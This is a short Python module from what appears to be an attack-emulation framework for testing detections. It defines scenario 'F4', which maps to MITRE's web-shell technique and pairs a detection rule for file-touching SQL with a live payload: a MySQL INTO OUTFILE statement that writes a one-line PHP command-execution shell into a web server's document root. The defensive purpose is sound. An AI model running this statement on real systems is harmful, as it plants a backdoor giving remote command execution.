"""F4: INTO OUTFILE leaves a program where a web server finds it."""

from backwatch.attack.clients.mysql_connector import MySQLConnector
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import ReportPage


class WritesFile(ReportPage):
    """A forgotten page for reports executes any statement."""

    code = "F4"
    attack = "writes a program into a web server's folder"
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    rule = "statement-touches-files"
    captures = b"INTO OUTFILE"
    statement = "SELECT '<?php system($_GET[0]);' INTO OUTFILE '/var/www/html/x.php'"
    runs = (Run(MySQLConnector),)
